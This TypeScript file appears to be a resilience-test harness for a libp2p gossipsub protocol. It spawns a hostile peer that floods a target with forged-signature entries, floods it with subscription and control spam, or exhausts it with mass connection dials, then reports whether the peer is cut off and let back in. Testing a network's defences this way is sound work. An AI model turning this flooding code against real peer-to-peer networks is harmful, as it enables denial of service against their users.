import { randomBytes } from 'node:crypto'
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import { decodeHeader, encodeEntry, encodeHeader, sealEphemeral } from '@daomesh/protocol'
import { identify } from '@libp2p/identify'
import { tcp } from '@libp2p/tcp'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { ordersShape, type Report } from './orders.ts'
import { control, framed, published, subscribed } from './rpc.ts'

// A hostile peer in a process of its own, so that what it costs itself is not taken for the cost of its victim. It follows no rule of any protocol.

const orders = ordersShape.parse(JSON.parse(process.argv[2] ?? ''))
const report = { sent: 0, cuts: 0, cutAfter: null as number | null, backIn: 0, held: 0 }
const began = performance.now()
const left = (): number => orders.seconds * 1000 - (performance.now() - began)
const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

const createNode = () =>
  createLibp2p({
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    connectionManager: { reconnectRetries: 0, maxConnections: 10_000, dialTimeout: 4_000 },
    services: { identify: identify() },
  })
type Node = Awaited<ReturnType<typeof createNode>>
type Connection = Awaited<ReturnType<Node['dial']>>
const target = multiaddr(orders.address)

const { header, body, topic, key } = orders
const honest = decodeHeader(header)
let made = 0
/** An entry that looks like any other until its signature is checked. */
const forged = (): Uint8Array => {
  made += 1
  const bytes = encodeEntry({ headerBytes: encodeHeader({ ...honest, at: honest.at + made }), signature: randomBytes(64), body })
  return published(topic, sealEphemeral(key, randomBytes(24), bytes))
}
const noiseOf = (n: number): Uint8Array[] => Array.from({ length: n }, () => randomBytes(32))
const rpcs = {
  signatures: (n: number) => framed(...Array.from({ length: n }, forged)),
  control: (n: number) =>
    framed(
      ...Array.from({ length: n }, () => subscribed(randomBytes(32).toString('hex'))),
      control(topic, noiseOf(n)),
      control(randomBytes(32).toString('hex'), noiseOf(n)),
    ),
  dials: () => new Uint8Array(0),
}

/** Sends at the given pace over an open connection until it is cut or the time is over. */
const flood = async (connection: Connection): Promise<void> => {
  const stream = await connection.newStream('/meshsub/1.1.0')
  stream.send(framed(subscribed(topic)))
  const start = performance.now()
  let sent = 0
  while (left() > 0 && connection.status === 'open' && stream.status === 'open') {
    const due = Math.min(200, Math.floor(((performance.now() - start) / 1000) * orders.many) - sent)
    if (due < 20) {
      await pause(2)
      continue
    }
    const open = stream.send(rpcs[orders.kind](due))
    sent += due
    report.sent += due
    if (!open) await Promise.race([new Promise((resolve) => stream.addEventListener('drain', resolve, { once: true })), pause(500)])
    await pause(0)
  }
}

const attackOnce = async (node: Node): Promise<void> => {
  const connection = await node.dial(target, { signal: AbortSignal.timeout(4_000) })
  // A write into a connection that is being closed throws: that is the cut.
  await flood(connection).catch(() => undefined)
  if (left() <= 0) return
  report.cuts += 1
  report.cutAfter ??= performance.now() - began
}

/** Whether it is let in again under the identity that was cut off. */
const comeBack = async (node: Node): Promise<void> => {
  await pause(200)
  const connection = await node.dial(target, { signal: AbortSignal.timeout(2_000) })
  await pause(300)
  if (connection.status === 'open') report.backIn += 1
}

const floodOn = async (): Promise<void> => {
  let node = await createNode()
  while (left() > 0) {
    try {
      await (report.cuts > 0 && !orders.anew ? comeBack(node) : attackOnce(node))
    } catch {
      // It is not let in, or thrown out in the middle of something, which is what it may expect.
      await pause(20)
    }
    if (orders.anew) {
      await node.stop()
      node = await createNode()
    }
  }
  await node.stop()
}

const dialOn = async (): Promise<void> => {
  const nodes: Node[] = []
  const dialOne = async (): Promise<void> => {
    const node = await createNode()
    nodes.push(node)
    await node.dial(target, { signal: AbortSignal.timeout(4_000) }).catch(() => undefined)
    report.sent += 1
  }
  while (report.sent < orders.many && left() > 0) await Promise.all(Array.from({ length: 10 }, dialOne))
  while (left() > 0) await pause(50)
  report.held = nodes.filter((node) => node.getConnections().some(({ status }) => status === 'open')).length
}

process.on('uncaughtException', () => undefined)
process.on('unhandledRejection', () => undefined)
await (orders.kind === 'dials' ? dialOn() : floodOn())
const said: Report = report
process.stdout.write(`${JSON.stringify(said)}\n`, () => process.exit(0))
